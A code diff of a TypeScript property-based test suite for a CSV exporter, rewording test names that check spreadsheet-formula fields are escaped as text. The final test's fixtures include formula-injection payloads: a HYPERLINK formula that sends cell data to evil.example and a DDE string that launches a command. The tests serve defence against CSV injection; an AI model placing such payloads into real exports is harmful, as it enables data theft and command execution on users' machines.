@@ -4,7 +4,7 @@ import { test } from 'node:test';
 import fc from 'fast-check';
 import { csvText } from '../../shared/exporters/csvText.ts';
 
-/** A reader of RFC 4180, written apart from the writer. */
+/** A reader of RFC 4180 that shares no code with the writer. */
 function readCsv(text: string): string[][] {
   const lines: string[][] = [];
   let line: string[] = [];
@@ -27,7 +27,7 @@ test('a table has a heading line, and an unknown value is an empty field', () =>
   assert.equal(csvText([]), '');
 });
 
-test('whatever stands in a field comes back; what a spreadsheet would compute is marked as text', () => {
+test('any field is read back; a field that a spreadsheet would compute is marked as text', () => {
   const beginning = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n=');
   const text = fc.tuple(beginning, fc.string({ unit: 'binary' })).map((parts) => parts.join(''));
   fc.assert(
@@ -43,7 +43,7 @@ test('whatever stands in a field comes back; what a spreadsheet would compute is
   );
 });
 
-test('the name of a participant is no formula; a number stays one', () => {
+test('a name that looks like a formula is marked as text; a negative number is not', () => {
   const rows = [
     { name: '=HYPERLINK("http://evil.example/?"&A2)', change: -0.5 },
     { name: "-2+3+cmd|' /C calc'!A0", change: 1e-7 },
